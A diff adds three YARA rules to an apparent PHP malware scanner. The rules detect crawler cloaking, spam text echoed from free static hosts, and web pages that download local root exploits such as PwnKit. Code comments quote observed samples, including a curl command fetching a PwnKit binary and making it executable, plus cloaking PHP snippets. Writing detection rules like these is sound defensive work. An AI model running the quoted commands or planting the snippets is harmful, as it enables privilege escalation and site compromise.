@@ -1854,6 +1854,50 @@ rule mamori_php_injected_remote_page {
     filesize < 128KB and $tpl and $url and $echo and $ua and $curl and $fgc
 }
 
+rule mamori_php_crawler_cloak_fixed_page {
+  meta:
+    score = 75
+    technique = "seo-spam"
+    description = "shows search engines' crawlers a page fetched from a fixed address and stops there (cloaking injected into an application's front file)"
+  strings:
+    // (session 44, held-out set H50: CodeIgniter's front file with a block put first, "if ($uri == '/' && (strpos($ua,
+    // 'bot') !== false || strpos($ua, 'google') ..)) { echo file_get_contents('x.pages.dev/..'); exit(); }". Dynamic
+    // rendering for crawlers (prerender) fetches the page asked for, its address joined with the request's)
+    $ua = /HTTP_USER_AGENT/
+    $bot = /["'](bot|google|googlebot|bingbot|yandex|baiduspider|slurp|lighthouse|chrome-lighthouse|spider|crawler)["']|googlebot\s*\|/ nocase
+    $echo = /\b(echo|print|exit|die)\s*\(?\s*(@\s*)?(file_get_contents|curl_exec|implode\s*\(\s*["']["']\s*,\s*file)\s*\(\s*["'][^"'$\s]{6,200}["']\s*\)\s*\)?\s*;/
+  condition:
+    filesize < 512KB and $ua and for any i in (1..#bot) : ($echo in (@bot[i]..@bot[i] + 800))
+}
+
+rule mamori_php_echo_remote_text {
+  meta:
+    score = 75
+    technique = "seo-spam"
+    description = "prints into the page a text file fetched from a fixed address on a free static host or a code host (spam links put into every page)"
+  strings:
+    // (session 44, held-out set H50: "echo file_get_contents("https://x.pages.dev/punten.txt");" added at the end of
+    // CodeIgniter's core file. A .txt or an address on a host that serves anyone's pages, printed unescaped)
+    $echo = /\b(echo|print)\s*\(?\s*(@\s*)?file_get_contents\s*\(\s*["'](https?:\/\/)?[^"'$\s\/]{1,100}\.(pages\.dev|workers\.dev|netlify\.app|vercel\.app|github\.io|gitlab\.io|web\.app|firebaseapp\.com|glitch\.me|herokuapp\.com|blogspot\.com|000webhostapp\.com|raw\.githubusercontent\.com|gist\.githubusercontent\.com)\/[^"'\s]{0,200}["']\s*\)|\b(echo|print)\s*\(?\s*(@\s*)?file_get_contents\s*\(\s*["']https?:\/\/[^"'$\s]{4,200}\.txt["']\s*\)/ nocase
+  condition:
+    filesize < 512KB and $echo
+}
+
+rule mamori_php_local_root_fetch {
+  meta:
+    score = 80
+    technique = "privilege-escalation"
+    description = "downloads a local root exploit (PwnKit, Dirty Pipe, Dirty COW ...) and makes it executable from a web page"
+  strings:
+    // (session 44, held-out set H50's root helper: "curl -fsSL https://raw.githubusercontent.com/ly4k/PwnKit/main/PwnKit -o
+    // pwn;chmod +x pwn" through a command wrapper, then a root shell page fetched beside it)
+    $dl = /\b(curl|wget)\s[^"'\n]{0,300}(pwnkit|cve-20\d\d-\d{4,5}|dirty_?(cow|pipe|sock)|dirtycred|linpeas|les\.sh|linux-exploit-suggester|rootshell|overlayfs|gameoverlay|looney_?tunables|baron_?samedit)/ nocase
+    $x = /chmod\s+(\+x|u\+x|[0-7]?[0-7]?7[0-7]{2})\b/
+    $run = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(/ nocase
+  condition:
+    filesize < 256KB and $run and for any i in (1..#dl) : ($x in (@dl[i]..@dl[i] + 500))
+}
+
 rule mamori_php_hidden_admin_harvester {
   meta:
     score = 80
